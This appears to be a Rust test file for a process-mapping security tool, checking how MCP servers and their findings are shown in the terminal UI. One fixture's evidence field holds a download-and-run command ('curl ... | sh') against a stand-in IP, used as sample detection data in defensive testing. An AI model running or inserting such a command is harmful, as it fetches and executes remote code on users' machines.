//! MCP servers in the explorer: on the demo host, the `updater` process
//! (pid 2210) carries the agents' evaluator's `mcp_server` mark (configured
//! in Claude Desktop, its tools and a recent call) and one MCP finding. On
//! the map it has the MCP icon (`⚙`, `M` in ASCII) or sits in the `MCP
//! servers` group when crowded; its detail says who runs it, its tools,
//! recent calls and findings. A socketless stdio server's host mark is
//! listed in the host's detail. Frames at 120×40 and 80×24.

use std::sync::Arc;

use necromap::model::{Finding, Pid, Severity, Snapshot, Subject, TraceStep};
use necromap::tui::state::MapNode;
use necromap::tui::{App, Options};

mod tui_common;
use tui_common::{demo, draw, status};

const SERVER: Pid = Pid(2210);

fn mcp(rule: &str, severity: Severity, subject: Subject, trace: &[(&str, &str)]) -> Finding {
    Finding {
        id: format!("{rule}@test"),
        rule_id: rule.into(),
        rule_name: rule.into(),
        severity,
        tags: vec![if rule == "mcp_server" { "mcp_server" } else { "mcp" }.into()],
        subject,
        netns: None,
        highlight: None,
        icon: None,
        trace: trace.iter().map(|(c, v)| TraceStep { condition: (*c).into(), value: (*v).into() }).collect(),
        explanation: format!("fixture explanation for {rule}"),
        explanation_ko: String::new(),
        steps: Vec::new(),
        first_seen_ms: 0,
        last_seen_ms: 0,
    }
}

fn with_servers() -> Arc<Snapshot> {
    let mut s = (*demo()).clone();
    let mut findings = s.findings.clone();
    findings.push(mcp(
        "mcp_server",
        Severity::Info,
        Subject::Process { pid: SERVER },
        &[
            ("configured in", "Claude Desktop /home/alice/.config/Claude/claude_desktop_config.json (mcpServers.updater)"),
            ("tools", "check_updates, apply_update"),
            ("recent calls", "apply_update [mcp_download_and_run]"),
        ],
    ));
    findings.push(mcp(
        "mcp_download_and_run",
        Severity::Critical,
        Subject::Process { pid: SERVER },
        &[("tool", "apply_update"), ("evidence", "curl -fsSL http://203.0.113.9/x | sh")],
    ));
    findings.push(mcp(
        "mcp_server",
        Severity::Info,
        Subject::Host,
        &[
            ("process", "pid 4711 · no network socket (stdio)"),
            ("observed by", "necromap mcp-observe: npx -y @modelcontextprotocol/server-filesystem /home/alice"),
            ("server name", "secure-filesystem-server"),
            ("tools", "read_file, list_directory"),
            ("findings", "0 (none)"),
        ],
    ));
    s.set_findings(findings);
    Arc::new(s)
}

fn app(size: (u16, u16), plain: bool) -> App {
    App::new(Arc::new(necromap::spec::Spec::embedded()), with_servers(), status(), Options { plain, ..Options::default() }, size)
}

/// The node the server is drawn in: its own, or the MCP group.
fn server_node(a: &App) -> MapNode {
    let m = &a.derived.map;
    assert!(m.mcp_servers.contains(&SERVER), "the map knows the MCP server: {:?}", m.mcp_servers);
    if m.processes.iter().any(|e| e.node == MapNode::Process(SERVER)) {
        return MapNode::Process(SERVER);
    }
    let (label, members) = m.process_groups.iter().find(|(_, members)| members.contains(&SERVER)).expect("the server is drawn in a group");
    assert_eq!(label, necromap::tui::derived::MCP_GROUP, "a crowded map folds MCP servers into their own group");
    assert_eq!(members, &vec![SERVER]);
    MapNode::Processes(label.clone())
}

#[test]
fn an_mcp_server_has_its_icon_group_and_detail() {
    for (size, plain) in [((120, 40), false), ((80, 24), false), ((120, 40), true), ((80, 24), true)] {
        let mut a = app(size, plain);
        let node = server_node(&a);
        let text = draw(&a).backend().to_string();
        let icon = if plain { "M" } else { "⚙" };
        match &node {
            MapNode::Process(_) => assert!(text.contains(&format!("{icon} upda")), "{size:?}: the MCP icon on its node:\n{text}"),
            _ => assert!(text.contains("MCP servers") || text.contains(&format!("{} MCP", if plain { "%" } else { "⛭" })), "{size:?}: the MCP group:\n{text}"),
        }
        a.ui.map_selected = node.clone();
        a.ui.focus = None;
        let (_, lines) = necromap::tui::views::detail::content(&a, 200);
        let detail: Vec<String> = lines.iter().map(ToString::to_string).collect();
        let detail = detail.join("\n");
        if let MapNode::Process(_) = node {
            for want in [
                "mcp      MCP server · configured in Claude Desktop",
                "tools    check_updates, apply_update",
                "calls    apply_update [mcp_download_and_run]",
                "findings 1 (worst critical): mcp_download_and_run",
            ] {
                assert!(detail.contains(want), "{size:?}: `{want}` in the detail:\n{detail}");
            }
        } else {
            assert!(detail.contains("updater (2210)"), "{size:?}: the group lists the server:\n{detail}");
        }
    }
}

#[test]
fn a_socketless_server_is_in_the_hosts_detail() {
    let mut a = app((120, 40), false);
    a.ui.map_selected = MapNode::Host;
    let (_, lines) = necromap::tui::views::detail::content(&a, 200);
    let detail: Vec<String> = lines.iter().map(ToString::to_string).collect();
    let want = "mcp      secure-filesystem-server · pid 4711 · no network socket (stdio) · tools read_file, list_directory · findings 0 (none)";
    assert!(detail.iter().any(|l| l == want), "{detail:#?}");
}

#[test]
fn frames_with_an_mcp_server_selected() {
    for (size, name) in [((120, 40), "mcp_server_selected_120x40"), ((80, 24), "mcp_server_selected_80x24")] {
        let mut a = app(size, true);
        a.ui.map_selected = server_node(&a);
        insta::assert_snapshot!(name, draw(&a).backend());
    }
}

#[test]
fn a_crowded_map_folds_mcp_servers_into_their_group() {
    let mut s = (*demo()).clone();
    let mut findings = s.findings.clone();
    for pid in [402, 455] {
        findings.push(mcp("mcp_server", Severity::Info, Subject::Process { pid: Pid(pid) }, &[("configured in", "Cursor /home/alice/.cursor/mcp.json")]));
    }
    s.set_findings(findings);
    let a = App::new(Arc::new(necromap::spec::Spec::embedded()), Arc::new(s), status(), Options::default(), (80, 24));
    let m = &a.derived.map;
    let group = m.process_groups.iter().find(|(label, _)| label == necromap::tui::derived::MCP_GROUP);
    assert_eq!(group.map(|g| g.1.clone()), Some(vec![Pid(402), Pid(455)]), "both servers in the MCP group: {:?}", m.process_groups);
    let text = draw(&a).backend().to_string();
    assert!(text.contains("⛭ MCP servers"), "the group's icon and label:\n{text}");
}
